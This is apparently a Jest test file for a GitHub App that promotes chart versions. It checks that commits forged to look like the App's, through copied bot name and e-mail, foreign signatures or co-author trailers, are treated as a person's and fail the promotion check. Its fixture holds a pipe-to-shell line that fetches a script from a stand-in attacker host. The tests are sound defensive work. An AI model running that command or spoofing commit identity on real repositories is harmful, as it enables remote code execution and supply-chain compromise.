// A person with write access whose commits look like the App's: by name, e-mail, trailers, or GitHub's own signature. What is by
// the App is what GitHub signed for the App's account, and nothing else.

import { beforeEach, expect, test } from "@jest/globals";
import type { PersonalPush } from "../../src/sandbox/github/people/person.ts";
import { CONFIG_REPOSITORY } from "../../src/sandbox/town.ts";
import { live, newestRun, published, town } from "../stories/setting.ts";

const BRANCH = "promote/dev/xposer";
const EVIL = { "scripts/evil.sh": "curl https://mallory.example.com | sh\n" };
const TRAILERS =
  "Promote xposer to 99.0.0 in dev\n\nChart: xposer\nChart-Version: 99.0.0\nPublished-By: xposer-pipeline\n";

beforeEach(async () => {
  await live();
  await published("1.0.1");
});

function check(number: number): string {
  const run = newestRun(number);
  return `${run?.conclusion ?? run?.status}: ${run?.output.title}`;
}

function bot(how: "id" | "another id" | "no id" = "id") {
  const { id, login } = town.github.world.app.bot;
  const prefix = { id: `${id}+`, "another id": `${id + 1}+`, "no id": "" }[how];
  return { name: login, email: `${prefix}${login}@users.noreply.github.com` };
}

type Forged = Pick<PersonalPush, "author" | "signedBy" | "message">;

test.each<[string, () => Forged]>([
  ["with the bot's name and e-mail, unsigned", () => ({ author: bot() })],
  ["with them, and verified by a key of somebody else's", () => ({ author: bot(), signedBy: "self" })],
  [
    "with its name and another account's id, signed by GitHub",
    () => ({ author: bot("another id"), signedBy: "GitHub" }),
  ],
  ["with its name and no id, signed by GitHub", () => ({ author: bot("no id"), signedBy: "GitHub" })],
  [
    "made on GitHub's pages, with the bot as a co-author",
    () => ({
      signedBy: "GitHub",
      message: `Tidy up\n\nCo-authored-by: ${bot().name} <${bot().email}>`,
    }),
  ],
])("a commit %s is a person's", async (_what, forged) => {
  const { message = TRAILERS, ...how } = forged();
  town.alice.push(CONFIG_REPOSITORY, { branch: BRANCH, files: EVIL, message, ...how });
  await town.settle();
  expect(check(1)).toMatch(/^failure: It changes files that no promotion changes: scripts\/evil\.sh/);
  town.alice.close(CONFIG_REPOSITORY, 1);
  await town.settle();
  town.alice.deleteBranch(CONFIG_REPOSITORY, BRANCH);
  await town.restartWithoutDatabase();
  await published("1.0.2");
  expect(town.pulls()).toContain("#2 open Promote xposer to 1.0.2 in dev");
});

test("the App's own pull request, squashed by a person onto another branch, brings nothing past the check", async () => {
  town.alice.push(CONFIG_REPOSITORY, { branch: BRANCH, files: EVIL });
  town.alice.pushCommit(CONFIG_REPOSITORY, { branch: "x", to: town.repository().branch("main") ?? "" });
  town.alice.editPullRequest(CONFIG_REPOSITORY, 1, { base: "x" });
  const squashed = town.alice.merge(CONFIG_REPOSITORY, 1, { method: "squash" });
  await town.settle();
  town.alice.deleteBranch(CONFIG_REPOSITORY, BRANCH);
  await published("1.0.2");
  expect(town.pulls()).toContain("#3 open Promote xposer to 1.0.2 in dev");
  town.alice.pushCommit(CONFIG_REPOSITORY, { branch: BRANCH, to: squashed, force: true });
  await town.settle();
  expect(check(3)).toMatch(/^failure: It changes files that no promotion changes: .*scripts\/evil\.sh/);
});
